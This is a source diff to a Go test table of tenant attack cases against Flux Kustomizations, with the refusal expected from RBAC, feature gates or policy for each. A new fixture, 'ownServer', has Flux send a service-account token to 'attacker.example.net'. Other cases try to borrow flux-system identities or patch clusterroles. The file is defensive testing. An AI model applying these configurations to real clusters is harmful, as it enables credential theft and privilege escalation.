@@ -45,6 +45,7 @@ func kustomizationAttacks() []attack {
 			with:          `{apiVersion: v1, kind: ConfigMap, metadata: {name: "${id}", namespace: "${me}"}, data: {provider: generic, serviceAccountName: gitops-reconciler, address: "${server}", audiences: "${server}", ca.crt: "${ca}"}}`,
 			kustomization: `{serviceAccountName: kustomize-controller, path: ./privileged, kubeConfig: {configMapRef: {name: "${id}"}}}`,
 			always:        refusal{byRBAC, "failed to get server groups: unknown"},
+			ungated:       refusal{byFlux, "ObjectLevelWorkloadIdentity feature gate is not enabled"},
 		},
 
 		{
@@ -90,12 +91,15 @@ func kustomizationAttacks() []attack {
 			name:          "Kustomization: decryption with the controller's own cloud identity",
 			kustomization: `{path: ./encrypted, decryption: {provider: sops}}`,
 			gated:         refusal{byFlag, "'${me}/gitops-reconciler'"},
+			effect:        "failed to create provider access token for the controller", // there is no cloud here
+			rule:          "flux-decryption-identity",
 			policy:        refusal{byPolicy, "spec.decryption.serviceAccountName: name the account that may use the keys"},
 		},
 		{
 			name:          "Kustomization: decryption with a ServiceAccount of flux-system",
 			kustomization: `{path: ./encrypted, decryption: {provider: sops, serviceAccountName: kustomize-controller}}`,
 			always:        refusal{byFlux, "'${me}/kustomize-controller'"},
+			ungated:       refusal{byFlux, "enable the ObjectLevelWorkloadIdentity feature gate"},
 		},
 		{
 			name:          "Kustomization: path out of the repository",
@@ -124,7 +128,21 @@ func kustomizationAttacks() []attack {
 			with:          `{apiVersion: v1, kind: ConfigMap, metadata: {name: "${id}", namespace: "${me}"}, data: {provider: generic, address: "${server}", audiences: "${server}", ca.crt: "${ca}"}}`,
 			kustomization: `{path: ./privileged, kubeConfig: {configMapRef: {name: ${id}}}}`,
 			gated:         refusal{byFlag, "failed to get server groups: unknown"},
+			ungated:       refusal{byFlag, `User "system:serviceaccount:${me}:gitops-reconciler" cannot patch resource "clusterroles"`},
 			policy:        refusal{byPolicy, "data.serviceAccountName: name the account"},
+		},
+		{
+			name:          "Kustomization: kubeConfig ConfigMap without serviceAccountName, of the tenant's own server",
+			with:          ownServer,
+			kustomization: `{kubeConfig: {configMapRef: {name: "${id}"}}}`,
+			steals:        true,
+			gated:         refusal{byFlag, "failed to get server groups"},
+			policy:        refusal{byPolicy, "data.serviceAccountName: name the account"},
+			rule:          "kubeconfig-account",
 		},
 	}
 }
+
+// ownServer has Flux take the attackers' server for an API server, and send it a
+// token of nobody in particular.
+const ownServer = `{apiVersion: v1, kind: ConfigMap, metadata: {name: "${id}", namespace: "${me}"}, data: {provider: generic, address: "https://attacker.example.net/${me}/${id}", audiences: "https://attacker.example.net", ca.crt: "${attackerCA}"}}`
